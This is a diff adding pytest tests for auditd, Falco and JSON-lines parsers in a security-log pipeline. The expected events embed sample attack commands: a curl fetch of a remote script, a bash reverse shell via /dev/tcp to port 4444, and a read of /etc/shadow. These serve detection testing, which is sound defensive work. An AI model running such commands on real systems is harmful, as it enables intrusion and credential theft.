@@ -1,0 +1,101 @@
+"""auditd and Falco samples map to the expected audit events."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from pipeline.collect.sources import ParseError
+from pipeline.collect.sources.auditd import AuditdParser
+from pipeline.collect.sources.falco import FalcoParser
+from pipeline.collect.sources.jsonl import JsonLinesParser
+
+DATA = Path(__file__).parent / "data"
+
+
+def parse_all(parser: AuditdParser | FalcoParser, path: Path) -> tuple[list, list[int]]:
+    events, bad = [], []
+    for number, line in enumerate(path.read_bytes().splitlines(), start=1):
+        try:
+            events.extend(parser.feed(line))
+        except ParseError:
+            bad.append(number)
+    events.extend(parser.finish())
+    return events, bad
+
+
+def test_auditd_records_join_into_mapped_events() -> None:
+    events, bad = parse_all(AuditdParser(tenant="acme", sandbox_id="sb-42"), DATA / "auditd.log")
+    assert bad == []
+    summary = [(e["category"], e["action"], e["outcome"], e["object"]) for e in events]
+    assert summary == [
+        ("process", "exec", "success", "/usr/bin/curl"),
+        ("file", "read", "denied", "/etc/shadow"),
+        ("file", "write", "success", "/etc/cron.d/update"),
+        ("network", "connect", "success", "198.51.100.7:4444"),
+        ("permission", "chmod", "success", "/tmp/rootsh"),
+        ("auth", "auth", "failure", "/usr/sbin/sshd"),
+    ]
+    exec_event = events[0]
+    assert exec_event["ts"] == 1764324000101
+    assert exec_event["event_id"] == "auditd:sb-42:1764324000101:4211"
+    assert exec_event["actor"] == {
+        "user": "runner",
+        "uid": 1000,
+        "pid": 2240,
+        "ppid": 2211,
+        "process": "curl",
+        "cmdline": "curl -sO http://198.51.100.7/x.sh",
+    }
+    assert exec_event["attributes"]["auditd.key"] == "exec"
+    assert exec_event["attributes"]["auditd.records"] == "SYSCALL,EXECVE,CWD,PATH,PATH,PROCTITLE"
+    assert events[1]["level"] == "warning"
+    assert events[1]["actor"]["cmdline"] == "cat /etc/shadow"  # from the hex PROCTITLE
+    assert events[3]["actor"]["cmdline"] == "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
+    assert events[4]["attributes"]["auditd.a1"] == "9ed"  # syscall args stay as written
+    assert events[5]["actor"]["user"] == "admin"
+    assert events[5]["actor"]["uid"] == 0
+
+
+def test_auditd_rejects_other_lines_and_goes_on() -> None:
+    parser = AuditdParser(tenant="t", sandbox_id="s")
+    with pytest.raises(ParseError, match="not an auditd record"):
+        parser.feed(b"Nov 28 10:00:00 host sshd[1]: Accepted publickey")
+    assert parser.feed(b"type=USER_LOGIN msg=audit(1795860000.5:9): pid=1 uid=0 res=success") == []
+    (event,) = parser.finish()
+    assert (event["category"], event["action"], event["outcome"]) == ("auth", "login", "success")
+
+
+def test_falco_alerts_map_to_events() -> None:
+    events, bad = parse_all(FalcoParser(tenant="acme", sandbox_id=None), DATA / "falco.jsonl")
+    assert bad == [4]
+    summary = [
+        (e["sandbox_id"], e["category"], e["action"], e["level"], e["object"]) for e in events
+    ]
+    assert summary == [
+        ("3ad7b26ded6d", "process", "execve", "notice", ""),
+        ("3ad7b26ded6d", "file", "openat", "warning", "/etc/shadow"),
+        ("3ad7b26ded6d", "network", "connect", "critical", "172.17.0.5:43211->198.51.100.7:4444"),
+    ]
+    shell = events[0]
+    assert shell["ts"] == 1795860000123
+    assert shell["actor"] == {
+        "user": "root",
+        "uid": 0,
+        "pid": 4242,
+        "ppid": 4200,
+        "process": "bash",
+        "cmdline": "bash -i",
+    }
+    assert shell["attributes"]["falco.rule"] == "Terminal shell in container"
+    assert shell["attributes"]["falco.tags"].endswith("T1059")
+    assert shell["attributes"]["falco.user.loginuid"] == "-1"
+
+
+def test_jsonl_fills_tenant_and_sandbox_from_config() -> None:
+    parser = JsonLinesParser(tenant="acme", sandbox_id="sb-7")
+    (event,) = parser.feed(b'{"category": "file", "action": "read", "object": "/x"}')
+    assert (event["tenant"], event["sandbox_id"]) == ("acme", "sb-7")
+    with pytest.raises(ParseError, match="category: 'x' is not one of"):
+        parser.feed(b'{"category": "x", "action": "read"}')
